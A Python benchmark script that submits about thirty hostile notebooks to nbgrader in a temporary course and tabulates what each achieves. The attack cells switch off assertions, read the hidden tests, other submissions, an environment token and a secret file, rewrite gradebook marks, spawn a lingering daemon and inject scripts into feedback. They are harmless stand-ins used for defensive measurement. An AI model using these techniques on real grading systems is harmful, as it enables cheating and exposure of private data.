"""What plain nbgrader does with attacks, measured: the column of docs/security.md that is about it.

A small course of one exercise with a visible and a hidden test is made in a temporary folder.  Every attack is handed
in together with an honest notebook, which is graded after it, and `nbgrader autograde` runs as it comes: the tests
beside the student's code, in one kernel, not in a jail.  What may harm others is graded alone with the honest one.
So the attacks here are stand-ins that do no harm: they write a marker in the temporary folder, read a file that was
put there to be read, connect to a listener on loopback, end their process.  Nothing here uses up processes, memory or
disk.

    python benchmarks/nbgrader_attacks.py          # prints the table; benchmarks/results/nbgrader_attacks.md
"""

from __future__ import annotations

import argparse
import json
import os
import platform
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
from collections.abc import Callable, Iterator
from contextlib import closing, contextmanager, suppress
from dataclasses import dataclass
from importlib.metadata import version
from pathlib import Path
from typing import Any

import psutil
from nbformat import NotebookNode, write
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output
from nbgrader.api import Gradebook, MissingEntry

LIMIT = 10  # seconds of nbgrader's own limit on a cell
EXERCISE = "def double(x):\n    ### BEGIN SOLUTION\n    return 2 * x\n    ### END SOLUTION\n"
VISIBLE = "assert double(2) == 4"
HIDDEN = "# hidden: canary-of-the-hidden-tests\nassert double(3) == 6\nassert double(-1.5) == -3"
RIGHT = "def double(x):\n    return 2 * x\n"
WRONG = "def double(x):\n    return 3 * x\n"
POINTS = 2.0


@dataclass(frozen=True)
class Attack:
    """One hostile notebook.

    Attributes
    ----------
    name : str
        What it does.
    code : str
        The exercise's cell; FOLDER, PORT and STUDENT stand for this run's.
    earned : float
        The points that its author deserves.
    change : callable, optional
        Changes the notebook further.
    file : callable, optional
        Puts the submitted file in place itself.
    alone : bool
        Whether it may harm others, and so is graded with the honest notebook only.
    """

    name: str
    code: str = WRONG
    earned: float = 0.0
    change: Callable[[NotebookNode], None] | None = None
    file: Callable[[Path, Path], None] | None = None
    alone: bool = False


def solution_cell(notebook: NotebookNode) -> NotebookNode:
    """The cell of the exercise."""
    return next(c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("solution"))


def copy_a_test(notebook: NotebookNode) -> None:
    """Copy the first test cell, id and all."""
    notebook.cells.append(next(c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade")).copy())


def drop_the_tests(notebook: NotebookNode) -> None:
    """Delete every test cell."""
    notebook.cells = [c for c in notebook.cells if not c.metadata.get("nbgrader", {}).get("grade")]


def more_points(notebook: NotebookNode) -> None:
    """Say that each test is worth a thousand points."""
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade"):
            cell.metadata.nbgrader.points = 1000


def without_metadata(notebook: NotebookNode) -> None:
    """Take all metadata away."""
    for cell in notebook.cells:
        cell.metadata = {}


def as_markdown(notebook: NotebookNode) -> None:
    """Make the exercise's cell one of text."""
    cell = solution_cell(notebook)
    k = notebook.cells.index(cell)
    notebook.cells[k] = new_markdown_cell(cell.source, metadata=cell.metadata)


def other_kernel(notebook: NotebookNode) -> None:
    """Ask for a kernel that is not there."""
    notebook.metadata.kernelspec = {"name": "no-such-kernel", "display_name": "No such kernel", "language": "python"}


def script_in_an_output(notebook: NotebookNode) -> None:
    """Add a text cell and a saved output with a script."""
    notebook.cells.append(new_markdown_cell("<script>window.hostile_markdown = 1</script>"))
    shown = new_output("display_data", data={"text/html": "<script>window.hostile_output = 1</script>"})
    notebook.cells.append(
        new_code_cell(
            "from IPython.display import HTML, display\ndisplay(HTML('<script>window.hostile_output = 1</script>'))",
            outputs=[shown],
        )
    )


def link_to_a_secret(place: Path, folder: Path) -> None:
    """Hand in the honest notebook, and beside it a link to a file of the machine."""
    shutil.copy(folder / "release" / "a" / "a.ipynb", place / "a.ipynb")
    (place / "picture.png").symlink_to(folder / "secret.txt")


def not_json(place: Path, folder: Path) -> None:
    """Hand in what is no JSON."""
    (place / "a.ipynb").write_text("{ not JSON")


def not_utf8(place: Path, folder: Path) -> None:
    """Hand in bytes that are no text."""
    (place / "a.ipynb").write_bytes(b"\xff\xfe\x00{}")


def empty(place: Path, folder: Path) -> None:
    """Hand in an empty file."""
    (place / "a.ipynb").write_bytes(b"")


def format_3(place: Path, folder: Path) -> None:
    """Hand in a notebook of format 3."""
    cell = {"cell_type": "code", "input": RIGHT, "outputs": [], "metadata": {}, "language": "python"}
    old = {"nbformat": 3, "nbformat_minor": 0, "metadata": {"name": ""}, "worksheets": [{"cells": [cell]}]}
    (place / "a.ipynb").write_text(json.dumps(old))


READ = """import glob
found = "".join(open(path).read() for path in glob.glob("FOLDER/{}", recursive=True))
"""
TELL = 'print("read: WHAT" if found else "read: nothing")\n'
ATTACKS = [
    Attack("honest notebook, for comparison", RIGHT, POINTS),
    Attack("wrong notebook, for comparison"),
    Attack(
        "one line that switches all assertions off",
        "import ast\nclass T(ast.NodeTransformer):\n    visit_Assert = lambda self, n: ast.Pass()\n"
        "get_ipython().ast_transformers.append(T())\n" + WRONG,
    ),
    Attack(
        "a transformer that empties every later cell",
        "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])\n" + WRONG,
    ),
    Attack(
        "an object equal to everything",
        "class E:\n    def __eq__(self, o): return True\ndef double(x):\n    return E()\n",
    ),
    Attack("reads the hidden tests", READ.format("source/**/*.ipynb") + TELL.replace("WHAT", "hidden tests") + WRONG),
    Attack(
        "answers from the hidden tests it reads",
        READ.format("source/**/*.ipynb") + "def double(x):\n    return 2 * x if 'canary' in found else 3 * x\n",
    ),
    Attack(
        "reads the other submissions",
        READ.format("submitted/honest/**/*.ipynb") + TELL.replace("WHAT", "another submission") + WRONG,
    ),
    Attack("reads the environment", "import os\nprint(os.environ['COURSE_TOKEN'])\n" + WRONG),
    Attack("reads a file of the machine", "print(open('FOLDER/secret.txt').read())\n" + WRONG),
    Attack(
        "rewrites all marks in the gradebook",
        "import sqlite3\ndb = sqlite3.connect('FOLDER/gradebook.db', timeout=10)\n"
        "db.execute('UPDATE grade SET manual_score = 99')\ndb.commit()\n" + WRONG,
        alone=True,
    ),
    Attack("writes into the course folder", "open('FOLDER/marker-STUDENT', 'w').write('x')\n" + WRONG),
    Attack(
        "connects to the network",
        "import socket\nsocket.create_connection(('127.0.0.1', PORT)).sendall(b'STUDENT')\n" + WRONG,
    ),
    Attack(
        "os._exit(0) after its earlier points",
        RIGHT,
        POINTS,
        lambda n: n.cells.append(new_code_cell("import os\nos._exit(0)")),
    ),
    Attack("os._exit(0) before any test", "import os\n" + RIGHT + "os._exit(0)\n"),
    Attack("endless loop", RIGHT, POINTS, lambda n: n.cells.append(new_code_cell("while True:\n    pass"))),
    Attack(
        "a daemon with double fork",
        "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
        "        open('FOLDER/daemon-STUDENT', 'w').write(str(os.getpid()))\n        time.sleep(600)\n    os._exit(0)\n"
        + WRONG,
    ),
    Attack("prints a line of 50 MB", "print('a' * 50_000_000)\n" + WRONG),
    Attack("a copied test cell", RIGHT, POINTS, copy_a_test, alone=True),
    Attack("deleted test cells", RIGHT, POINTS, drop_the_tests),
    Attack("changed points", WRONG, 0.0, more_points),
    Attack("metadata removed", RIGHT, POINTS, without_metadata, alone=True),
    Attack("the exercise's cell re-typed as text", RIGHT, POINTS, as_markdown, alone=True),
    Attack("another kernel", RIGHT, POINTS, other_kernel, alone=True),
    Attack("scripts in text and outputs", RIGHT, POINTS, script_in_an_output),
    Attack("a link beside the notebook", file=link_to_a_secret, alone=True),
    Attack("format 3", file=format_3, earned=POINTS, alone=True),
    Attack("no JSON", file=not_json, alone=True),
    Attack("not UTF-8", file=not_utf8, alone=True),
    Attack("an empty file", file=empty, alone=True),
    Attack("works for the visible test only", "def double(x):\n    return 2 * x if x == 2 else 0\n", 1.0),
]


def marked(grade_id: str, *, points: float | None = None) -> dict[str, Any]:
    """nbgrader's metadata of a test cell, or of a solution cell."""
    kind = {"grade": points is not None, "solution": points is None, "locked": points is not None, "task": False}
    more = {"points": points} if points is not None else {}
    return {"nbgrader": {**kind, **more, "grade_id": grade_id, "schema_version": 3}}


def source() -> NotebookNode:
    """The instructor's notebook."""
    hidden = f"### BEGIN HIDDEN TESTS\n{HIDDEN}\n### END HIDDEN TESTS"
    notebook = new_notebook(
        cells=[
            new_code_cell(EXERCISE, metadata=marked("double")),
            new_code_cell(VISIBLE, metadata=marked("visible", points=1.0)),
            new_code_cell(hidden, metadata=marked("hidden", points=1.0)),
        ]
    )
    notebook.metadata.kernelspec = {"name": "python3", "display_name": "Python 3", "language": "python"}
    return notebook


def nbgrader(folder: Path, *arguments: str, seconds: float = 120.0) -> tuple[int | None, str]:
    """Run nbgrader in the course folder: its exit status, None where it had to be stopped, and what it printed."""
    environment = {**os.environ, "COURSE_TOKEN": "canary-of-the-environment"}
    scripts = str(Path(sys.executable).parent)
    environment["PATH"] = os.pathsep.join([scripts, environment.get("PATH", os.defpath)])
    command = [sys.executable, "-m", "nbgrader", *arguments]
    with tempfile.TemporaryFile() as output:  # not a pipe: a kernel that outlives nbgrader would hold it open
        process = subprocess.Popen(
            command, cwd=folder, env=environment, stdout=output, stderr=subprocess.STDOUT, start_new_session=True
        )
        try:
            status: int | None = process.wait(timeout=seconds)
        except subprocess.TimeoutExpired:
            os.killpg(process.pid, signal.SIGKILL)
            status = None
            process.wait()
        output.seek(0)
        return status, output.read().decode(errors="replace")


def kill_leftovers(folder: Path) -> None:
    """End what still runs in the course folder."""
    for process in psutil.process_iter():
        with suppress(psutil.Error, OSError):
            if Path(process.cwd()).is_relative_to(folder):
                process.kill()


def make_course(folder: Path) -> None:
    """A course with one assignment, released, and secrets to be read."""
    (folder / "source" / "a").mkdir(parents=True)
    (folder / "nbgrader_config.py").write_text(
        f"c = get_config()\nc.CourseDirectory.course_id = 'attacked'\nc.ExecutePreprocessor.timeout = {LIMIT}\n"
        "c.Exchange.root = '/nonexistent'\n"
    )
    write(source(), folder / "source" / "a" / "a.ipynb")
    (folder / "secret.txt").write_text("canary-of-the-machine")
    status, said = nbgrader(folder, "generate_assignment", "a", "--create")
    assert status == 0, said[-2000:]


def hand_in(folder: Path, student: str, attack: Attack, port: int) -> None:
    """Put one notebook in place."""
    import nbformat

    place = folder / "submitted" / student / "a"
    place.mkdir(parents=True)
    if attack.file is not None:
        attack.file(place, folder)
        return
    notebook = nbformat.read(folder / "release" / "a" / "a.ipynb", as_version=4)
    solution_cell(notebook).source = (
        attack.code.replace("FOLDER", str(folder)).replace("PORT", str(port)).replace("STUDENT", student)
    )
    if attack.change is not None:
        attack.change(notebook)
    write(notebook, place / "a.ipynb")


@contextmanager
def listener() -> Iterator[tuple[int, list[str]]]:
    """A port of loopback, and a list of who has connected to it."""
    seen: list[str] = []
    with closing(socket.create_server(("127.0.0.1", 0))) as server:

        def accept() -> None:
            try:
                while True:
                    seen.append(server.accept()[0].recv(100).decode())
            except OSError:
                pass

        threading.Thread(target=accept, daemon=True).start()
        yield server.getsockname()[1], seen


def score(folder: Path, student: str) -> float | None:
    """What the gradebook says; None where there is nothing."""
    with Gradebook(f"sqlite:///{folder}/gradebook.db") as gradebook:
        try:
            return float(gradebook.find_submission("a", student).score)
        except MissingEntry:
            return None


def measure(attacks: list[Attack], template: Path) -> list[dict[str, str]]:
    """Grade some attacks and then an honest notebook, and look at what happened."""
    with tempfile.TemporaryDirectory(prefix="nbgrader-") as name, listener() as (port, connected):
        folder = Path(name) / "course"
        shutil.copytree(template, folder)
        students = {f"attacker{k:02}": attack for k, attack in enumerate(attacks)}  # graded in the order of their names
        for student, attack in students.items():
            hand_in(folder, student, attack, port)
        hand_in(folder, "honest", Attack("honest", RIGHT, POINTS), port)
        status, _ = nbgrader(folder, "autograde", "a", seconds=120.0 + 30 * len(attacks))
        running = {p.name.removeprefix("daemon-"): int(p.read_text()) for p in folder.glob("daemon-*")}
        running = {student: pid for student, pid in running.items() if Path(f"/proc/{pid}").exists()}
        nbgrader(folder, "generate_feedback", "a", seconds=120.0 + 30 * len(attacks))
        for pid in running.values():
            with suppress(ProcessLookupError):
                os.kill(pid, signal.SIGKILL)
        kill_leftovers(folder)
        honest = score(folder, "honest")
        rows = []
        for student, attack in students.items():
            effects = shown_effects(folder, student, attack)
            if honest != POINTS:
                marks = "no marks" if honest is None else f"{honest:g} points"
                effects.append(f"**the honest student, graded after it, has {marks}**")
            if (folder / f"marker-{student}").exists():
                effects.append("**wrote into the course folder**")
            if student in connected:
                effects.append("**connected**")
            if student in running:
                effects.append("**a process of it runs on after grading**")
            if status is None:
                effects.append("had to be stopped")
            got = score(folder, student)
            given = "–" if got is None else f"{got:g} of {attack.earned:g}"
            rows.append({"attack": attack.name, "given": given, "effects": "; ".join(effects)})
        return rows


def shown_effects(folder: Path, student: str, attack: Attack) -> list[str]:
    """What of an attack shows in the marks and in the files that nbgrader made."""
    effects = []
    got = score(folder, student)
    if got is None:
        effects.append("no marks")
    elif got > attack.earned:
        effects.append("**unearned points**")
    elif got < attack.earned:
        effects.append("earned points are lost")
    paths = [p for top in ("autograded", "feedback") for p in (folder / top / student).rglob("*") if p.is_file()]
    files = {p: p.read_text(errors="replace") for p in paths}
    feedback = "\n".join(text for p, text in files.items() if p.is_relative_to(folder / "feedback"))
    for what in ("machine", "environment"):
        if any(f"canary-of-the-{what}" in text for text in files.values()):
            effects.append(f"**something of the {what} comes back**")
    for said in ("hidden tests", "another submission"):
        if f"read: {said}\n" in feedback:
            effects.append(f"**{said} read, and shown in the feedback**")
    for where in ("output", "markdown"):
        if f"<script>window.hostile_{where}" in feedback:
            effects.append(f"**the script in its {where} is in the feedback page**")
    size = sum(p.stat().st_size for p in files)
    if size > 10 << 20:
        effects.append(f"**{size >> 20} MiB kept**")
    return effects


def main() -> None:
    """Measure all attacks, or those whose names hold a word, and print the table."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--only", default="", help="attacks whose names hold this")
    only = parser.parse_args().only
    rows = []
    with tempfile.TemporaryDirectory(prefix="nbgrader-") as name:
        template = Path(name) / "course"
        make_course(template)
        chosen = [attack for attack in ATTACKS if only in attack.name]
        groups = [[attack] for attack in chosen if attack.alone]
        together = [attack for attack in chosen if not attack.alone]
        for group in [together, *groups] if together else groups:
            rows += measure(group, template)
            print(*(f"# {row}" for row in rows[-len(group) :]), sep="\n", file=sys.stderr, flush=True)
    print(f"nbgrader {version('nbgrader')}, Python {platform.python_version()}, its own execution and feedback.")
    print("Points are those given and those earned; an honest notebook, worth 2, was graded after every attack.\n")
    print("| attack | points | what happened |\n|---|---|---|")
    for row in rows:
        print(f"| {row['attack']} | {row['given']} | {row['effects'] or 'as it should be'} |")


if __name__ == "__main__":
    main()
